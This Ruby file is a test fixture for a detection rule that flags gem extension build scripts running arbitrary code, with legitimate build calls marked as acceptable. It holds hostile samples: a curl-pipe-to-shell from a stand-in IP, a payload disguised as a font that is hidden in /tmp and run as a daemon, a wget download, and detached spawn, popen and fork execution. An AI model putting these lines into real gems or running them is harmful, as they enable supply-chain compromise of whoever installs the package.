# Fixture for rb-gem-extension-runs-code.
# RULEID: curl|sh in backticks; a detached spawn; exec of a bundled file; system of a renamed
# payload; a download with wget; an IO.popen of a non-build command; nohup in %x; fork.
# OK: pkg-config and make calls, a configure step, find_executable/have_library, a variable
# make command, create_makefile.
require "mkmf"
require "fileutils"

# ruleid: rb-gem-extension-runs-code
`curl -fsSL http://203.0.113.5/s.sh | sh`

# ruleid: rb-gem-extension-runs-code
pid = spawn("#{__dir__}/../vendor/helper", out: File::NULL, err: File::NULL)
# ruleid: rb-gem-extension-runs-code
Process.detach(pid)

payload = File.join(__dir__, "data", "font.ttf")
FileUtils.mv(payload, "/tmp/.fontcache")
File.chmod(0o755, "/tmp/.fontcache")
# ruleid: rb-gem-extension-runs-code
system("/tmp/.fontcache --daemon")

# ruleid: rb-gem-extension-runs-code
system("wget", "-q", "-O", "/tmp/x", "https://example.invalid/x")

# ruleid: rb-gem-extension-runs-code
IO.popen("python3 -c 'import os; os.system(\"id\")'").read

# ruleid: rb-gem-extension-runs-code
%x(nohup #{payload} >/dev/null 2>&1 &)

# ruleid: rb-gem-extension-runs-code
system(File.join(File.dirname(__FILE__), "bin", "setup"))

# ruleid: rb-gem-extension-runs-code
fork { exec("/tmp/.fontcache") }

# ok: rb-gem-extension-runs-code
cflags = `pkg-config --cflags libsodium`.strip
$CFLAGS << " " << cflags

# ok: rb-gem-extension-runs-code
abort "make failed" unless system("make -C vendor/libfoo")

Dir.chdir("vendor/libbar") do
  # ok: rb-gem-extension-runs-code
  system("./configure --disable-shared --prefix=#{Dir.pwd}/build")
end

make = find_executable("gmake") || find_executable("make")
# ok: rb-gem-extension-runs-code
system("#{make} -j4")

have_library("z")
create_makefile("fastparse/fastparse")
